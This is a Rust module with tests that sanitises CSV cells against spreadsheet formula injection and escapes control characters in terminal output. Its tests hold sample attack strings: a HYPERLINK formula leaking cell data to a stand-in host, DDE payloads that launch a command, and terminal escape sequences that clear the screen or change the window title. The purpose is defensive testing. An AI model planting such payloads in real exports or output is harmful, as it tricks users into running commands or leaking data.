//! Server data made safe where it lands: CSV cells that a spreadsheet would run as formulas,
//! and text printed to a terminal that could move the cursor, clear the screen, change the
//! window title or fake a line of output.
//!
//! ```
//! use connector_cli::sanitize::{csv_cell, terminal};
//! assert_eq!(csv_cell("=HYPERLINK(\"http://evil.example\")", true), "'=HYPERLINK(\"http://evil.example\")");
//! assert_eq!(csv_cell("-2+3+cmd|' /C calc'!A0", true), "'-2+3+cmd|' /C calc'!A0");
//! assert_eq!(csv_cell("Ann\u{0}\u{202e}Lee", true), "AnnLee");
//! assert_eq!(csv_cell("=1+1", false), "=1+1", "raw values on request");
//! assert_eq!(terminal("C1\u{1b}[2J\r\nerror: fake"), "C1\\u{1b}[2J\\r\\nerror: fake");
//! ```

use std::borrow::Cow;

pub use connector_app::export::writer::csv_cell;
use connector_app::export::writer::unsafe_char;

/// Text for a terminal: every control character (newlines included) and bidirectional
/// override shown as a visible escape, so server data stays on its own line.
pub fn terminal(text: &str) -> Cow<'_, str> {
    if !text
        .chars()
        .any(|c| unsafe_char(c) || c == '\n' || c == '\t')
    {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if unsafe_char(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised() {
        for v in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let cell = csv_cell(v, true);
            assert!(cell.starts_with('\''), "{v:?} -> {cell:?}");
        }
        assert_eq!(csv_cell("Ann O'Neil", true), "Ann O'Neil");
        assert_eq!(csv_cell("ann@acme.example", true), "ann@acme.example");
    }

    #[test]
    fn control_characters_never_reach_a_cell() {
        let cell = csv_cell("a\u{0}b\u{7}c\u{1b}[31md\u{85}e\u{2067}f\nline\ttab", true);
        assert_eq!(cell, "abc[31mdef\nline\ttab");
    }

    #[test]
    fn terminal_text_cannot_break_out_of_its_line() {
        assert_eq!(terminal("plain"), "plain");
        assert_eq!(
            terminal("id \u{1b}]0;pwned\u{7} x"),
            "id \\u{1b}]0;pwned\\u{7} x"
        );
    }
}
